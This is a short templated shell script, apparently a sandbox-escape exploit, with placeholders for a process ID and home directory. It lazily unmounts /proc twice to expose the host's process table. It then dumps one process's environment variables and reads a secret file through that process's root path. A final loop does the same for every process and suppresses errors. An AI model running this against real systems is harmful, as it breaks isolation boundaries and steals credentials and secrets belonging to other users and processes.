# The machine's /proc is under the lab's.
umount -l /proc; umount -l /proc
tr '\0' '\n' < /proc/@PID@/environ
cat /proc/@PID@/root@HOME@/secret
for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ; cat $p/root@HOME@/secret; done 2>/dev/null
